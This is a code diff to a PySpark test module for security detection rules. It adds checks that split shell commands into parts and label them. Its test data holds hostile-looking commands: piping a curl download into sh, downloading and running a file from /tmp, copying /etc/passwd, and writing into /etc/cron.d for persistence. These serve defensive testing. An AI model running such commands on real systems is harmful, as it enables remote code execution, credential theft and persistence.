@@ -3,7 +3,9 @@ from __future__ import annotations
 
 from pyspark.sql import functions as F
 
-from ..operators import predicates as Q, rules as R
+from ..functions.argv import split_argv
+from ..functions.shell import command_parts
+from ..operators import commands as C, predicates as Q, rules as R
 from .base import EV, evidence, table
 from .predicates import FP, ITEMS, items
 
@@ -278,8 +280,33 @@ SELECT o_orderkey, CASE severity WHEN 'P0' THEN 'confirmed_attack' WHEN 'P1' THE
  round(least(0.9, CASE severity WHEN 'P0' THEN CASE WHEN m > 1 THEN 0.88 ELSE 0.85 END WHEN 'P1' THEN 0.78 WHEN 'P2' THEN 0.58 WHEN 'P3' THEN 0.45 ELSE 0.5 END + CASE WHEN n % 7 = 0 THEN 0.06 ELSE 0 END), 2)::DOUBLE AS confidence,
  concat_ws(',', CASE WHEN n % 2 = 0 THEN 'reverse_shell,shell_execution' END, CASE WHEN n % 3 = 0 THEN 'noise' END, CASE WHEN n % 5 = 0 THEN 'persistence' END) AS tags FROM c"""
 
+COMMANDS = ("bash -c 'curl http://h/%d | sh'", "crontab --list %d", "cp /etc/passwd /bak/%d", "tar -xf b%d.tar -C /etc/cron.d", "curl -o /tmp/f%d u && sh /tmp/f%d", "scp -t /in/%d", "tar c /home/u%d | gzip > /tmp/x", "echo 'crontab -e %d' # it's", "wget u%d; cat '/etc/cron.d/a'")
+
+
+def r01_segments(spark, d):
+    """What the command of every order does, and the words it is cut into."""
+    o = table(spark, d, "orders").select("o_orderkey", F.replace(F.element_at(F.array(*[F.lit(c) for c in COMMANDS]), (F.col("o_orderkey") % len(COMMANDS) + 1).cast("int")), F.lit("%d"), F.col("o_orderkey").cast("string")).alias("command"))
+    told = C.judged(o).select("o_orderkey", "command", *[F.col(f"__cmd.{q}").alias(q) for q in C.QUESTIONS])
+    parts = command_parts(F.col("command"))["segments"]
+    return told.withColumn("words", F.array_join(F.transform(parts, lambda s: F.concat(s["op"], F.lit(":"), F.array_join(s["argv"], "_"))), "/")).drop("command")
+
+
+R01S_SQL = """WITH o AS (SELECT o_orderkey, o_orderkey % 9 AS c, o_orderkey AS n FROM orders)
+SELECT o_orderkey, c = 3 AS writes_persistence, c IN (0, 4) AS runs_download, c = 5 AS only_receives, c = 6 AS stages_data, CASE c WHEN 0 THEN ':curl_http://h/' || n || '/|:sh' WHEN 1 THEN ':crontab_--list_' || n WHEN 2 THEN ':cp_/etc/passwd_/bak/' || n
+  WHEN 3 THEN ':tar_-xf_b' || n || '.tar_-C_/etc/cron.d' WHEN 4 THEN ':curl_-o_/tmp/f' || n || '_u/&&:sh_/tmp/f' || n WHEN 5 THEN ':scp_-t_/in/' || n WHEN 6 THEN ':tar_c_/home/u' || n || '/|:gzip_>_/tmp/x' WHEN 7 THEN ':echo_crontab -e ' || n
+  ELSE ':wget_u' || n || '/;:cat_/etc/cron.d/a' END AS words FROM o"""
+
+
+def r01_argv(spark, d):
+    """Shell words of lines that quote a part of each document."""
+    t = table(spark, d, "customer").select("c_custkey", F.concat(F.lit("run -n '"), F.col("c_name"), F.lit(" x' \"a b\" c\\ d "), F.col("c_custkey").cast("string")).alias("line"))
+    return t.select("c_custkey", F.array_join(split_argv(F.col("line")), "|").alias("words"))
+
+
+R01A_SQL = "SELECT c_custkey, 'run|-n|' || c_name || ' x|a b|c d|' || c_custkey AS words FROM customer"
+
 CHECKS = {
-    "R01_exec_rules": (r01, R01_SQL), "R02_connect_rules": (r02, R02_SQL), "R03_persistence_rules": (r03, R03_SQL), "R04_syslog_rules": (r04, R04_SQL), "R05_dns_rules": (r05, R05_SQL),
+    "R01_exec_rules": (r01, R01_SQL), "R01_command_segments": (r01_segments, R01S_SQL), "R01_split_argv": (r01_argv, R01A_SQL), "R02_connect_rules": (r02, R02_SQL), "R03_persistence_rules": (r03, R03_SQL), "R04_syslog_rules": (r04, R04_SQL), "R05_dns_rules": (r05, R05_SQL),
     "R06_behavior_policy": (r06, R06_SQL), "R07_whitelist": (r07, R07_SQL), "R08_event_decision": (r08, R08_SQL), "R09_layer1_verdict": (r09, R09_SQL), "R10_layer2_outcome": (r10, R10_SQL),
     "R11_ip_block_guard": (r11, R11_SQL), "R12_attck_map": (r12, R12_SQL), "R13_verdict_policy": (r13, R13_SQL), "R13_overall_verdict": (r13_overall, R13O_SQL), "R14_detection_output": (r14, R14_SQL),
 }
